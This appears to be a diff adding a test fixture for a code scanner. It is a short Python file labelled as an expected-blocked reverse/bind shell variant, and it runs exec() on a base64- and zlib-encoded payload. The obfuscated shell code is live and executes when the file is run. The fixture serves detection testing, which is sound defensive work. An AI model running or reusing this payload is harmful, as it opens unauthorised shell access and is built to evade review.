@@ -1,0 +1,3 @@
+# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/bind_shell.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJx1UMtqwzAQvPsrFvcig6LE8aFQ6MEkLpQ+AnZyKsU48haLqpLxKs3vV4odQw9BB2k1M7szewc5HJVpgTrU+gG0IoeGODT+76wGJDh3Fn9xAGmNQekInIVm5ItI/fR2cGDp+iIrv9HN1enYD1YiURQRDqHN40QR48WmKn+qn9+LPb+i1W7zUlf7ssjfkkkqCF1AbT+rqt1rHZj/hHVZHKoi325LDuksDikZi1ficmIOWZpl98mMj8mZF4SgfgFtezE7oo2U6McmkSXRnvo1CyTxpTQayxIOq5tIehNZ+9nzfoRstGYf8dL7XFLn/cULFX8mf70fiP0=')))
